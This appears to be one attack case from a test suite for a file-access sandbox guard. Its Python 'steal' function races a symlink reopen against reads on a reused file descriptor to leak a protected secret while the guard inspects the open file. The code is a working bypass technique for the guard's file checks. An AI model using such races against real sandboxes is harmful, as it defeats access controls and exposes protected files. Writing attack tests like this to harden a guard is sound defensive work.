# class: files
# rule: read_write_tmp
# success: a file in /tmp is read by its fd while the guard inspects the open object
# proof: read
# timeout: 40
import os
import threading
import time

from attack import FILE, SECRET, attempt


@attempt
def steal():
    os.symlink(FILE, "innocent.txt")
    number = os.open(os.devnull, os.O_RDONLY)
    os.close(number)
    end = time.monotonic() + 3
    found = []

    def ask():
        while not found and time.monotonic() < end:
            try:
                opened = os.open("innocent.txt", os.O_RDONLY)
            except OSError:
                continue
            found.append(os.pread(opened, 100, 0))
            os.close(opened)

    thread = threading.Thread(target=ask)
    thread.start()
    while not found and time.monotonic() < end:
        try:
            read = os.pread(number, 100, 0)
        except OSError:
            continue
        if SECRET.encode() in read:
            found.append(read)
    thread.join()
    return found[0] if found else b""
